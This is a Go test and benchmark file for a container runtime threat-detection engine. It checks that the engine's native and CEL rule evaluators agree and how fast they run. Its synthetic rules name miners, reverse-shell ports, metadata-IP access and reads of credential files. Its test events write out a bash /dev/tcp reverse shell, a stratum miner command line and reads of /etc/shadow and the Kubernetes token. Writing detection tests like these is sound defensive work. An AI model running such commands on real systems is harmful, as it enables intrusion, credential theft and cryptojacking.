package detect

import (
	"fmt"
	"strings"
	"testing"

	"github.com/vigil-sec/vigil/internal/event"
	"github.com/vigil-sec/vigil/rules"
)

// syntheticRules returns n rules of the shapes real catalogs use, spread
// over exec, connect and open.
func syntheticRules(n int) string {
	var b strings.Builder
	b.WriteString(`- list: miner_names
  items: [xmrig, xmr-stak, minerd, cpuminer, t-rex, nbminer, lolminer, ethminer, phoenixminer, nanominer]
- list: web_servers
  items: [nginx, httpd, apache2, php-fpm, java, node, python3, tomcat]
- list: shells
  items: [sh, bash, dash, ash, zsh]
- list: pool_ports
  items: [3333, 4444, 5555, 7777, 14444, 45700]
- macro: in_container
  condition: '!container.host && container.id != ""'
`)
	shapes := []struct{ events, cond string }{
		{"exec", `in_container && (proc.name in miner_names || proc.cmdline.contains("stratum+tcp://"))`},
		{"exec", `proc.name in shells && ancestors.exists(a, a.name in web_servers)`},
		{"exec", `proc.upper && in_container && facts["drift.writtenBy"] != ""`},
		{"exec", `proc.exe.startsWith("/dev/shm/") || proc.exe.startsWith("/tmp/%d/")`},
		{"exec", `proc.name == "nsenter%d" && proc.args.exists(a, a == "--mount")`},
		{"exec", `proc.memfd || (proc.deleted && proc.name == "x%d")`},
		{"exec", `proc.masquerade && proc.comm.matches("^(kworker|pause%d)")`},
		{"connect", `net.dstPort in pool_ports && net.dstIP != "127.0.0.%d"`},
		{"connect", `net.dstIP == "169.254.169.%d" && in_container`},
		{"open", `file.path.startsWith("/etc/shadow%d") && !file.write`},
		{"open", `file.write && file.path.endsWith("/authorized_keys%d")`},
	}
	for i := 0; i < n; i++ {
		s := shapes[i%len(shapes)]
		cond := s.cond
		if strings.Contains(cond, "%d") {
			cond = fmt.Sprintf(cond, i)
		}
		b.WriteString(ruleYAML(fmt.Sprintf("bench/R%02d", i), s.events, cond))
	}
	return b.String()
}

// benignEvents are events that match none of the synthetic rules: a busy
// web container's exec, connect and open events.
func benignEvents() []*event.Event {
	ex := withAncestors(execEv("/usr/bin/git", "git", "status", "--porcelain"), "/usr/bin/bash", "/usr/sbin/sshd")
	ex.Process.Comm = "git"
	conn := &event.Event{Kind: event.KindConnect, Process: event.Process{Exe: "/usr/sbin/nginx", Comm: "nginx", Args: []string{"nginx", "-g", "daemon off;"}},
		Container: &event.Container{ID: "c1", Image: "nginx:1.27"}, Network: &event.Network{Family: "ipv4", Protocol: "tcp", DstIP: "10.0.0.7", DstPort: 8080, ResultOK: true}}
	open := &event.Event{Kind: event.KindOpen, Process: event.Process{Exe: "/usr/sbin/nginx", Comm: "nginx"},
		Container: &event.Container{ID: "c1"}, File: &event.File{Path: "/var/log/nginx/access.log", Write: true}}
	fork := &event.Event{Kind: event.KindFork, Process: event.Process{Exe: "/usr/sbin/nginx", Comm: "nginx"}}
	return []*event.Event{ex, conn, open, fork}
}

func TestEvaluateDoesNotAllocateWhenNothingMatches(t *testing.T) {
	e := compileFiles(t, nil, syntheticRules(50))
	for _, ev := range benignEvents() {
		if got := matchIDs(e, ev); len(got) != 0 {
			t.Fatalf("benign %s event matched %v", ev.Kind, got)
		}
		allocs := testing.AllocsPerRun(200, func() { e.Evaluate(ev, func(*Rule, *event.Event) {}) })
		if raceEnabled {
			// The race detector makes sync.Pool drop items at random;
			// .ci/run also runs this package without it, where this counts.
			continue
		}
		if allocs != 0 {
			t.Errorf("%s event: %.1f allocations per Evaluate, want 0", ev.Kind, allocs)
		}
	}
}

// TestNativeEvaluationAgreesWithCEL evaluates the synthetic rules and the
// default catalog with and without the native evaluator on varied events:
// both must match the same rules.
func TestNativeEvaluationAgreesWithCEL(t *testing.T) {
	catalog, err := LoadFS(rules.FS, "*.yaml")
	if err != nil {
		t.Fatalf("load the default catalog: %v", err)
	}
	synthetic, err := LoadFS(mapFS(map[string]string{"s.yaml": syntheticRules(60)}))
	if err != nil {
		t.Fatal(err)
	}
	events := append(benignEvents(), variedEvents()...)
	for name, rs := range map[string]*RuleSet{"catalog": catalog, "synthetic": synthetic} {
		native, err := Compile(rs)
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		interp, err := Compile(rs, withoutNative())
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		matched := 0
		for i, ev := range events {
			a, b := matchIDs(native, ev), matchIDs(interp, ev)
			matched += len(a)
			if strings.Join(a, ",") != strings.Join(b, ",") {
				t.Errorf("%s event %d (%s %s): native matched %v, CEL matched %v", name, i, ev.Kind, ev.Process.Exe, a, b)
			}
		}
		if matched == 0 {
			t.Errorf("%s: no event matched any rule; the comparison proves nothing", name)
		}
	}
}

func variedEvents() []*event.Event {
	var out []*event.Event
	exes := []string{"/tmp/xmrig", "/bin/sh", "/bin/bash", "/usr/bin/curl", "/usr/bin/nsenter0", "/dev/shm/x", "/usr/bin/nmap", "/usr/bin/kubectl", "/bin/busybox", "/usr/sbin/useradd", "/usr/bin/pause"}
	argsets := [][]string{nil, {"x", "-o", "stratum+tcp://pool:3333"}, {"sh", "-c", "id; cat /etc/passwd"}, {"nsenter", "--mount", "-t", "1"}, {"bash", "-i", ">&", "/dev/tcp/10.0.0.1/4444", "0>&1"}, {"pause"}}
	ancs := [][]string{nil, {"/usr/sbin/nginx"}, {"/bin/sh", "/usr/sbin/php-fpm"}, {"/usr/bin/containerd-shim-runc-v2"}}
	for i, exe := range exes {
		for j, args := range argsets {
			for k, anc := range ancs {
				ev := withAncestors(execEv(exe, args...), anc...)
				if (i+j+k)%3 == 0 {
					ev.Process.Comm = "pause"
				}
				if (i+j)%4 == 1 {
					ev.Process.ExeUpperLayer = true
					ev.SetFact("drift.writtenBy", "/usr/bin/curl")
					ev.SetFact("drift.writtenAfterStart", "true")
				}
				if k == 3 {
					ev.Container = &event.Container{Host: true}
				}
				out = append(out, ev)
			}
		}
	}
	for _, port := range []uint16{53, 443, 3333, 4444, 6443, 14444} {
		for _, ip := range []string{"127.0.0.1", "10.0.0.1", "169.254.169.254", "::1"} {
			out = append(out, &event.Event{Kind: event.KindConnect, Process: event.Process{Exe: "/usr/bin/curl", Comm: "curl", Args: []string{"curl", "http://" + ip}},
				Container: &event.Container{ID: "c2"}, Network: &event.Network{Protocol: "tcp", DstIP: ip, DstPort: port}})
		}
	}
	for _, p := range []string{"/etc/shadow", "/var/run/secrets/kubernetes.io/serviceaccount/token", "/root/.ssh/authorized_keys", "/etc/ld.so.preload", "/etc/sudoers", "/var/log/auth.log", "/root/.bash_history"} {
		for _, w := range []bool{false, true} {
			out = append(out, &event.Event{Kind: event.KindOpen, Process: event.Process{Exe: "/bin/cat", Comm: "cat"},
				Container: &event.Container{ID: "c3"}, File: &event.File{Path: p, Write: w, Sensitive: !w}})
			out = append(out, &event.Event{Kind: event.KindUnlink, Process: event.Process{Exe: "/bin/rm", Comm: "rm"},
				Container: &event.Container{ID: "c3"}, File: &event.File{Path: p}})
		}
	}
	out = append(out, &event.Event{Kind: event.KindDNS, Process: event.Process{Exe: "/tmp/x", Comm: "x"}, Network: &event.Network{DNSQuery: "Pool.SupportXMR.com", DNSType: "A"}})
	out = append(out, &event.Event{Kind: event.KindModule, Process: event.Process{Exe: "/sbin/modprobe", Comm: "modprobe", Args: []string{"modprobe", "msr"}}, Syscall: &event.Syscall{Name: "finit_module", Module: "msr"}})
	return out
}

func BenchmarkEvaluateNoMatch(b *testing.B) {
	rs, err := LoadFS(mapFS(map[string]string{"s.yaml": syntheticRules(50)}))
	if err != nil {
		b.Fatal(err)
	}
	e, err := Compile(rs)
	if err != nil {
		b.Fatal(err)
	}
	evs := benignEvents()
	n := 0
	match := func(*Rule, *event.Event) { n++ }
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; b.Loop(); i++ {
		e.Evaluate(evs[i%len(evs)], match)
	}
	b.StopTimer()
	if n != 0 {
		b.Fatalf("%d matches", n)
	}
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "events/s")
}

func BenchmarkEvaluateMatch(b *testing.B) {
	rs, err := LoadFS(mapFS(map[string]string{"s.yaml": syntheticRules(50)}))
	if err != nil {
		b.Fatal(err)
	}
	e, err := Compile(rs)
	if err != nil {
		b.Fatal(err)
	}
	ev := withAncestors(execEv("/tmp/xmrig", "xmrig", "-o", "stratum+tcp://pool:3333"), "/bin/sh", "/usr/sbin/nginx")
	n := 0
	match := func(*Rule, *event.Event) { n++ }
	b.ReportAllocs()
	b.ResetTimer()
	for b.Loop() {
		e.Evaluate(ev, match)
	}
	b.StopTimer()
	if n == 0 {
		b.Fatal("no match")
	}
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "events/s")
}

// BenchmarkEvaluateCatalog replays a mix of benign and suspicious events
// through the full default catalog.
func BenchmarkEvaluateCatalog(b *testing.B) {
	e := compileCatalog(b)
	for name, evs := range map[string][]*event.Event{"benign": benignEvents(), "mixed": append(benignEvents(), variedEvents()...)} {
		b.Run(name, func(b *testing.B) {
			match := func(*Rule, *event.Event) {}
			b.ReportAllocs()
			for i := 0; b.Loop(); i++ {
				e.Evaluate(evs[i%len(evs)], match)
			}
			b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "events/s")
		})
	}
}
